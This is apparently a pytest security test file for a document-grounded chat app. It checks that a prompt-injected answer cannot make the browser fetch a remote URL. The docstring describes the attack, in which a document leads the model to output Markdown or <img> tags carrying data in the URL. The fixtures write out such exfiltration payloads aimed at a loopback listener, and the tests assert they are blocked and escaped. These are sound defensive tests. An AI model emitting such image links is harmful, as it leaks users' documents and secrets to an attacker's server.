"""Round two, item 1: an answer must not make the browser fetch a remote URL.

A prompt injection in a document can make a model write `![x](http://evil/?d=<document
text>)` or `<img src=…>`; the web chat rendered it as Markdown and HTML while it streamed,
before the grounding check, and the browser fetched the URL. A near miss quoted document text
unescaped, so a document's own `<img>` was fetched too, and again whenever the saved
conversation was reopened. A listener on loopback plays the attacker's server.
"""

from __future__ import annotations

import json
import time

import httpx
from tests.fakes import FakeGenerator
from tests.security.browser import Listener, ask, chromium, needs_chromium, wait_for_text
from tests.security.conftest import served

SECRET = "kiln-code-4471"
EVIL_DOC = ("The Zephyr pump warranty lasts seven years <img src=\"{url}/nearmiss.png\"> "
            "and covers the motor. ![n]({url}/nearmiss-md.png)\n")


def hostile_reply(url: str) -> str:
    return (f"The warranty lasts seven years [1]. ![s]({url}/x.png?d={SECRET}) "
            f"<img src=\"{url}/raw.png?d={SECRET}\"> [1]")


class SlowGenerator(FakeGenerator):
    """Pieces arrive as a model's would, so the page renders the answer while it streams."""

    def stream(self, messages, **kwargs):
        for piece in super().stream(messages, **kwargs):
            time.sleep(0.05)
            yield piece


def _documents(tmp_path, url: str):
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "pump.txt").write_text(EVIL_DOC.format(url=url))
    return docs


@needs_chromium
def test_neither_a_reply_nor_a_quoted_document_makes_the_browser_fetch_a_url(tmp_path):
    with Listener() as listener:
        generator = SlowGenerator(hostile_reply(listener.url), "I don't know.")
        with served(tmp_path, docs=False, generator=generator) as (url, app), chromium() as b:
            app.ingestor.ingest([_documents(tmp_path, listener.url)])
            page = b.new_context().new_page()
            page.goto(url)
            streamed = ask(page, "How long is the Zephyr pump warranty?")
            assert "seven years" in streamed
            near_miss = ask(page, "Does the Zephyr warranty cover the motor?")
            assert "closest passage" in near_miss and "covers the motor" in near_miss
            page.reload()  # the saved conversation, opened again
            wait_for_text(page, "#conversations", "Zephyr pump warranty")
            page.locator("#conversations label").first.click()
            wait_for_text(page, "#chat", "covers the motor")
            time.sleep(1)
            shown = page.locator("#chat").inner_html()
        assert listener.fetched() == []
        assert "<img" not in shown


def test_the_page_forbids_remote_images_and_framing(open_server):
    url, _ = open_server
    for path in ("/", "/config", "/v1/models"):
        response = httpx.get(url + path)
        policy = response.headers.get("content-security-policy", "")
        assert "img-src 'self' data:" in policy and "frame-ancestors 'none'" in policy, path
        assert response.headers.get("x-frame-options") == "DENY"


def test_the_api_stream_carries_no_image_or_tag(tmp_path):
    with Listener() as listener:
        generator = FakeGenerator(default=hostile_reply(listener.url))
        with served(tmp_path, generator=generator) as (url, _):
            body = {"messages": [{"role": "user", "content": "Zephyr pump warranty?"}]}
            streamed = ""
            with httpx.stream("POST", f"{url}/v1/chat/completions", timeout=60,
                              json={**body, "stream": True}) as response:
                for line in response.iter_lines():
                    if line.startswith("data: {"):
                        chunk = json.loads(line[6:])
                        if chunk.get("choices"):
                            streamed += chunk["choices"][0]["delta"].get("content") or ""
            whole = httpx.post(f"{url}/v1/chat/completions", json=body, timeout=60).json()
        assert "seven years" in streamed
        for text in (streamed, whole["choices"][0]["message"]["content"]):
            assert "![" not in text and "<img" not in text, text


def test_a_tag_or_image_split_across_stream_pieces_is_still_defanged():
    from ui.markup import StreamDefang, safe_markdown

    text = "a ![x](http://h/p.png) b <img src=x> c <!-- d --> 1 < 2 !"
    for size in (1, 2, 3, 5):
        defang = StreamDefang()
        out = "".join(defang.feed(text[i:i + size]) for i in range(0, len(text), size))
        out += defang.flush()
        assert out == safe_markdown(text), size
        assert "![" not in out and "<img" not in out and "<!--" not in out and "1 < 2" in out


def test_an_export_quotes_document_text_escaped(tmp_path):
    from ui.conversations import ConversationStore, Message

    store = ConversationStore(tmp_path / "c.sqlite")
    conversation = store.create("me", "q", "docs")
    hostile = "<img src='http://127.0.0.1:9/x.png'> ![a](http://127.0.0.1:9/y.png)"
    store.add("me", conversation, Message("user", "q"), Message("assistant", "A [1].", (
        {"number": 1, "label": f"{hostile}.md", "section": hostile, "text": hostile},)))
    exported = store.markdown("me", conversation)
    assert "<img" not in exported and "![" not in exported
